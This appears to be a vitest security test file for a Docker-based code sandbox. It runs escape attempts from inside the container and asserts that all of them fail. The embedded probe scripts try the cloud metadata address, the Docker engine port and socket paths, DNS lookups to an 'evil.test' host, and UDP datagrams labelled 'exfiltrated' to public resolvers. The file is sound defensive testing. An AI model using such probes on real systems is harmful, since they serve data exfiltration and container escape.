/** Family 22: everything that is not the gateway. Tried from inside by real code, and looked at from outside. */
import { createSocket } from 'node:dgram'
import { readFileSync } from 'node:fs'
import { createServer, type Server } from 'node:net'
import { join } from 'node:path'
import Database from 'better-sqlite3'
import Docker from 'dockerode'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { dockerOrSkip } from '../support/docker.ts'
import { attack } from '../support/egress-attack.ts'
import { createEgressKit, type EgressKit } from '../support/egress-kit.ts'
import { lookAtRunning } from '../support/running-containers.ts'

const available = await dockerOrSkip()

describe.skipIf(!available.available)(`ways out besides the gateway ${available.reason}`, () => {
  const docker = new Docker()
  let kit: EgressKit
  let host: Server
  let hostAddress: string
  let hostPort: number
  let knocks = 0
  const udp = createSocket('udp4')

  beforeAll(async () => {
    kit = await createEgressKit()
    const bridge = (await docker.getNetwork('bridge').inspect()) as {
      IPAM: { Config: { Gateway?: string }[] }
    }
    hostAddress = bridge.IPAM.Config[0]?.Gateway ?? '172.17.0.1'
    // A service of the host that listens where every ordinary container reaches it.
    host = createServer((socket) => {
      knocks += 1
      socket.on('error', () => {}).end('hello')
    })
    await new Promise<void>((resolve) => host.listen(0, hostAddress, resolve))
    hostPort = (host.address() as { port: number }).port
    udp.on('message', () => {
      knocks += 1
    })
    await new Promise<void>((resolve) => udp.bind(hostPort, hostAddress, resolve))
  })
  afterAll(async () => {
    udp.close()
    await new Promise((resolve) => host.close(resolve))
    await kit?.[Symbol.asyncDispose]()
  })

  it('do not exist: TCP, UDP, DNS, IPv6, ports of the host and its neighbours', async () => {
    const daemon = new URL(kit.daemon.daemon.url)
    const { report } = await attack(
      kit,
      `const { createSocket } = await import('node:dgram')
      // What never answers has not let anything through either.
      const bounded = (work) => Promise.race([work, new Promise((resolve) => setTimeout(resolve, 1000, 'silence'))])
      // Every address of loopback is the sandbox's own, and its listeners lead to the gateway: open is what answers.
      const speak = async (conn) => {
        await conn.write(new TextEncoder().encode('GET / HTTP/1.1\\r\\nHost: upstream\\r\\n\\r\\n'))
        const heard = new Uint8Array(4096)
        const text = new TextDecoder().decode(heard.subarray(0, await conn.read(heard) ?? 0))
        conn.close()
        return text === '' ? 'closed' : /"code":"egress_refused"/.test(text) ? 'refused' : 'open'
      }
      const tcp = async (name, hostname, port) => tell(name, await bounded(Deno.connect({ hostname, port }).then(speak).catch((error) => error.name)))
      await tcp('host', HOST, HOST_PORT)
      await tcp('daemon', '127.0.0.1', DAEMON_PORT)
      await tcp('daemon by its bridge', HOST, DAEMON_PORT)
      await tcp('engine', HOST, 2375)
      await tcp('resolver of the engine', '127.0.0.11', 53)
      await tcp('a public address', '1.1.1.1', 443)
      await tcp('a public address, IPv6', '2606:4700:4700::1111', 443)
      await tcp('metadata', '169.254.169.254', 80)
      await tcp('upstream', '127.77.0.1', PORT)
      await tcp('a neighbour', '172.17.0.2', 80)
      await tcp('a name', 'api.demo.test', PORT)
      await tcp('link-local', 'fe80::1', 80)
      const unix = async (path) => {
        try { const conn = await Deno.connect({ transport: 'unix', path }); conn.close(); tell(path, 'open') } catch (error) { tell(path, error.name) }
      }
      for (const path of ['/var/run/docker.sock', '/run/docker.sock', '/run/oauth3/../docker.sock', '/tmp/docker.sock']) await unix(path)
      for (const type of ['A', 'AAAA', 'TXT', 'MX', 'NS', 'CNAME']) {
        tell('DNS ' + type, await bounded(Deno.resolveDns('x.evil.test', type, { nameServer: { ipAddr: '127.0.0.11', port: 53 } }).then(() => 'answered', (error) => error.name)))
      }
      tell('DNS', await bounded(Deno.resolveDns('x.evil.test', 'A').then(() => 'answered', (error) => error.name)))
      const datagram = (address, port) => new Promise((resolve) => {
        let socket
        try {
          socket = createSocket(address.includes(':') ? 'udp6' : 'udp4')
          socket.on('error', (error) => resolve(error.code ?? error.name))
          socket.send('exfiltrated', port, address, (error) => resolve(error ? error.code ?? error.name : 'sent'))
        } catch (error) { resolve(error.code ?? error.name) }
      })
      for (const [address, port] of [[HOST, HOST_PORT], ['8.8.8.8', 53], ['2001:4860:4860::8888', 53], ['255.255.255.255', 9], ['224.0.0.251', 5353]]) {
        tell('UDP to ' + address, await bounded(datagram(address, port)))
      }
      tell('done', true)
      printReport()
      Deno.exit(0)`,
      {
        network: [kit.at('api.demo.test')],
        given: { HOST: hostAddress, HOST_PORT: hostPort, DAEMON_PORT: Number(daemon.port) },
      },
    )
    const { done, ...tried } = report
    expect(done).toBe(true)
    const went = Object.entries(tried).filter(([, result]) => ['open', 'answered', 'sent'].includes(result))
    expect(went).toEqual([])
    expect(knocks).toBe(0)
    expect(kit.upstream.trapped).toEqual([])
  })

  it('are not in the network namespace either: loopback and no route, seen from the host', async () => {
    const requestId = await kit.ask(
      `const answer = await fetch('https://api.demo.test:${kit.upstream.port}/hold'); await answer.text()`,
      { network: [kit.at('api.demo.test')] },
    )
    const held = kit.upstream.nextHeld()
    await kit.approve(requestId)
    const release = await held
    const looked = await lookAtRunning(instanceId(), (_container, { State, HostConfig, NetworkSettings }) => {
      const read = (file: string): string => readFileSync(`/proc/${State.Pid}/net/${file}`, 'utf8')
      const interfaces = [...read('dev').matchAll(/^ *([^ :]+):/gm)].map(([, name]) => name)
      expect(interfaces).toEqual(['lo'])
      expect(read('route').trim().split('\n')).toHaveLength(1)
      expect(read('if_inet6')).not.toMatch(/ (?!lo)\S+$/m)
      expect(HostConfig.NetworkMode).toBe('none')
      expect(Object.values(NetworkSettings.Networks).filter(({ IPAddress }) => IPAddress !== '')).toEqual([])
      // Raw sockets, and with them ICMP, need a capability.
      expect(readFileSync(`/proc/${State.Pid}/status`, 'utf8')).toMatch(/^CapEff:\t0+$/m)
    })
    expect(looked).toBeGreaterThan(0)
    release()
    expect((await kit.finished(requestId)).status).toBe('success')
  })

  it('are not opened by what the sandbox is handed: its endpoint is read-only and its own', async () => {
    const { report } = await attack(
      kit,
      `const attempt = async (name, work) => { try { await work(); tell(name, 'worked') } catch (error) { tell(name, error.name) } }
      const names = []
      try { for await (const entry of Deno.readDir('/run/oauth3')) names.push(entry.name) } catch (error) { names.push(error.name) }
      tell('names', names.sort())
      await attempt('write', () => Deno.writeTextFile('/run/oauth3/new', 'x'))
      await attempt('replace the CA', () => Deno.writeTextFile('/run/oauth3/ca.pem', 'x'))
      await attempt('remove the socket', () => Deno.remove('/run/oauth3/gateway.sock'))
      await attempt('rename the socket', () => Deno.rename('/run/oauth3/gateway.sock', '/run/oauth3/old.sock'))
      await attempt('another endpoint', () => Deno.readDir('/run/oauth3/..').next())
      await attempt('widen the mode', () => Deno.chmod('/run/oauth3/ca.pem', 0o777))`,
      { network: [kit.at('api.demo.test')] },
    )
    const { names, ...attempts } = report
    expect(names).toEqual(['ca.pem', 'gateway.sock', 'resolv.conf'])
    expect(Object.entries(attempts).filter(([, result]) => result === 'worked')).toEqual([])
  })

  it('stay shut for code without an approved host: the gateway answers and refuses', async () => {
    const { report, answer } = await attack(
      kit,
      `tell('fetch', await get('https://api.demo.test:' + PORT + '/'))
      tell('connect', await raw('CONNECT api.demo.test:' + PORT + ' HTTP/1.1\\r\\nHost: api.demo.test:' + PORT + '\\r\\n\\r\\n').catch((error) => ({ line: error.name })))`,
    )
    expect(report.fetch.status).not.toBe(200)
    // A tunnel in which nothing is said is refused for that.
    const rules = answer.network.refused.map(({ rule }) => rule)
    expect(rules).toContain('host_not_approved')
    expect(rules.filter((rule) => rule !== 'host_not_approved' && rule !== 'not_http')).toEqual([])
  })

  function instanceId(): string {
    const db = new Database(join(kit.daemon.folder, 'data', 'proxy.db'), { readonly: true })
    const id = db.prepare("SELECT value FROM installation WHERE key = 'instance_id'").pluck().get()
    db.close()
    return String(id)
  }
})
